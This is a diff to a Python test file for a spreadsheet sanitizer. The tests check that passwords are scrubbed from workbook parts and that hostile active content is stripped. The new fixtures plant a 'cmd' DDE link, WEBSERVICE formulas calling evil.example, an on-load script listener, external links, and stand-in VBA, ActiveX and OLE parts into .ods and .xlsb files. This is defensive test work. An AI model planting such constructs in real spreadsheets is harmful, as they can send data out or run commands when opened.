@@ -5,6 +5,7 @@ from __future__ import annotations
 import io
 import re
 import zipfile
+from collections.abc import Callable
 from html import escape
 
 import openpyxl
@@ -20,10 +21,14 @@ from odf.table import TableCell, TableRow
 from odf.text import P
 from openpyxl.chart import BarChart, Reference
 from openpyxl.comments import Comment
-from openpyxl.formatting.rule import FormulaRule
+from openpyxl.formatting.rule import FormulaRule, Rule
+from openpyxl.styles import Font, NamedStyle
+from openpyxl.styles.differential import DifferentialStyle
+from openpyxl.styles.numbers import NumberFormat
 from openpyxl.workbook.defined_name import DefinedName
 from openpyxl.workbook.workbook import Workbook
 from openpyxl.worksheet.datavalidation import DataValidation
+from openpyxl.worksheet.filters import SortCondition, SortState
 from openpyxl.worksheet.hyperlink import Hyperlink
 from openpyxl.worksheet.table import Table
 
@@ -39,6 +44,7 @@ from layouts.terms import LANGUAGES, RETURNED_LIST_TITLES, Verdict
 from tests.ingest.replies import cases
 from tests.ingest.replies.cases import ENTITY, LETTER, NOW, settings
 from tests.ingest.replies.renew import body, opened
+from tests.parsers import pages
 
 SECRET = "Сек рет-77"
 SHEET = "Лист1"
@@ -168,15 +174,13 @@ def test_a_sheet_named_by_a_password_is_named_as_in_its_findings(secret: str) ->
 
 
 def test_a_password_that_cannot_be_taken_out_keeps_the_workbook_back() -> None:
-    def change(workbook: Workbook) -> None:
-        workbook[SHEET]["C7"].number_format = f'0"{SECRET}"'
-
-    content = made(change)
-    assert mark(Document("a.xlsx", content), (ERROR,), (SECRET,), "ru", written_in) is None
+    # Every workbook has a part of that name.
+    secrets = ("sheet1.xml",)
+    assert mark(Document("a.xlsx", made()), (ERROR,), secrets, "ru", written_in) is None
 
 
 @pytest.mark.parametrize("secret", [SECRET, 'a&b<c"d-1', "12345678", "password"])
-def test_a_password_is_in_no_header_prompt_name_link_or_comment(secret: str) -> None:
+def test_a_password_is_in_no_header_prompt_name_link_format_or_comment(secret: str) -> None:
     def change(workbook: Workbook) -> None:
         sheet = workbook[SHEET]
         sheet.oddHeader.center.text = sheet.evenFooter.left.text = secret
@@ -187,6 +191,19 @@ def test_a_password_is_in_no_header_prompt_name_link_or_comment(secret: str) -> 
         rule = DataValidation("list", formula1='"T0"', sqref="B9", promptTitle=secret)
         rule.prompt = rule.error = rule.errorTitle = secret
         sheet.add_data_validation(rule)
+        listed = DataValidation("list", formula1=f'"{secret.replace(",", "")}"', sqref="B8")
+        sheet.add_data_validation(listed)
+        sheet.evenHeader.left.font = secret
+        style = NamedStyle(secret, font=Font(name=secret, b=True))
+        sheet["B6"].style = style
+        sheet["B7"].number_format = secret
+        sheet.sheet_properties.syncRef = secret
+        sheet.auto_filter.ref = "A5:C7"
+        order = SortCondition(ref="C6:C7", customList=secret)
+        sheet.auto_filter.sortState = SortState(ref="A6:C7", sortCondition=[order])
+        differs = DifferentialStyle(font=Font(name=secret), numFmt=NumberFormat(170, secret))
+        rule_of_cells = Rule("expression", dxf=differs, formula=["TRUE"])
+        sheet.conditional_formatting.add("A1:A2", rule_of_cells)
 
     forms = {secret, escape(secret), escape(secret, quote=False)}
     result = marked(made(change), ERROR, secrets=tuple(forms))
@@ -195,6 +212,8 @@ def test_a_password_is_in_no_header_prompt_name_link_or_comment(secret: str) -> 
             text = package.read(name).decode("utf-8")
             assert not any(f">{form}<" in text or f'"{form}"' in text for form in forms), name
             assert f"пароль {escape(secret, quote=False)}" not in text, name
+            assert f"&amp;&quot;{escape(secret)}" not in text, name
+    assert loaded(result)[SHEET]["B6"].font.b
 
 
 def test_an_earlier_reply_s_marks_are_taken_out_first() -> None:
@@ -492,6 +511,82 @@ def test_no_part_is_sent_on_but_those_that_say_what_cells_hold() -> None:
         for name in package.namelist():
             assert b"evil" not in package.read(name), name
             assert b'TargetMode="External"' not in package.read(name), name
+
+
+def ods_alive() -> bytes:
+    """An .ods with what LibreOffice follows, calculates or runs."""
+    names = "urn:oasis:names:tc:opendocument:xmlns:"
+    link = 'xlink:href="http://evil.example/" xmlns:xlink="http://www.w3.org/1999/xlink"'
+    ends = {
+        b"</office:spreadsheet>": "<table:dde-links><table:dde-link><office:dde-source "
+        'office:dde-application="cmd" office:dde-topic="evil.example" office:dde-item="a"/>'
+        "<table:table/></table:dde-link></table:dde-links>"
+        '<table:named-expressions><table:named-expression table:name="evil.example" '
+        'table:expression="of:=WEBSERVICE(A1)"/></table:named-expressions>',
+        b"</table:table>": f'<table:table-row><table:table-cell office:value-type="float" '
+        'table:formula="of:=WEBSERVICE(&quot;http://evil.example&quot;)" office:value="1">'
+        f"<text:p><text:a {link}>1</text:a></text:p><draw:frame><draw:object {link}/>"
+        f"</draw:frame></table:table-cell></table:table-row><table:table-source {link}/>",
+        b"<office:body>": f"<office:scripts><office:event-listeners><script:event-listener {link} "
+        f'xmlns:script="{names}script:1.0" script:language="ooo:script" script:event-name='
+        '"dom:load"/></office:event-listeners></office:scripts>',
+    }
+    extra = ("Basic/Standard/evil.xml", "Scripts/python/evil.py", "Object 1/content.xml")
+    return changed(ods(), "content.xml", ends, extra)
+
+
+def xlsb_alive() -> bytes:
+    """An .xlsb with what Excel follows, calculates or runs."""
+    address = pages._long("http://evil.example")
+    hyperlink = pages._record(494, bytes(16) + address * 4)
+    end = pages._record(130, b"")
+    outside = (
+        '<Relationship Id="r7" Type="a/{}" Target="http://evil.example" TargetMode="External"/>'
+    )
+    cells = {(y, x): v for y, row in enumerate(ROWS, 1) for x, v in enumerate(row, 1)}
+    content = pages.xlsb([pages.Page(SHEET, cells)])
+    content = changed(content, "xl/worksheets/sheet1.bin", {end: hyperlink})
+    ends = {b"</Relationships>": outside}
+    names = ("externalLinks/externalLink1", "vbaProject", "activeX/activeX1", "embeddings/ole1")
+    return changed(
+        content, "xl/_rels/workbook.bin.rels", ends, tuple(f"xl/{name}.bin" for name in names)
+    )
+
+
+def changed(
+    content: bytes, name: str, before: dict[bytes, str | bytes], extra: tuple[str, ...] = ()
+) -> bytes:
+    """A package with something put before the last of some texts of a part, and more parts."""
+    buffer = io.BytesIO()
+    with (
+        zipfile.ZipFile(io.BytesIO(content)) as old,
+        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as new,
+    ):
+        for info in old.infolist():
+            part = old.read(info)
+            for text, put in before.items() if info.filename == name else ():
+                at = part.rindex(text)
+                part = part[:at] + (put.encode() if isinstance(put, str) else put) + part[at:]
+            new.writestr(info, part)
+        for one in extra:
+            new.writestr(one, "evil.example")
+    return buffer.getvalue()
+
+
+@pytest.mark.parametrize("make", [ods_alive, xlsb_alive])
+def test_of_other_formats_nothing_but_values_is_sent_on(make: Callable[[], bytes]) -> None:
+    content = make()
+    with zipfile.ZipFile(io.BytesIO(content)) as package:
+        assert sum(b"evil" in package.read(name) for name in package.namelist()) > 2
+    result = marked(content)
+    assert loaded(result)[SHEET]["B6"].value == ROWS[5][1]
+    with zipfile.ZipFile(io.BytesIO(result.content)) as package:
+        assert [name for name in package.namelist() if not KEPT_PARTS.fullmatch(name)] == []
+        for name in package.namelist():
+            part = package.read(name)
+            assert b"evil" not in part, name
+            assert b"<f" not in part or name == "xl/styles.xml", name
+            assert b'TargetMode="External"' not in part, name
 
 
 @pytest.mark.parametrize("kind", ["f", "str", "e", "x"])
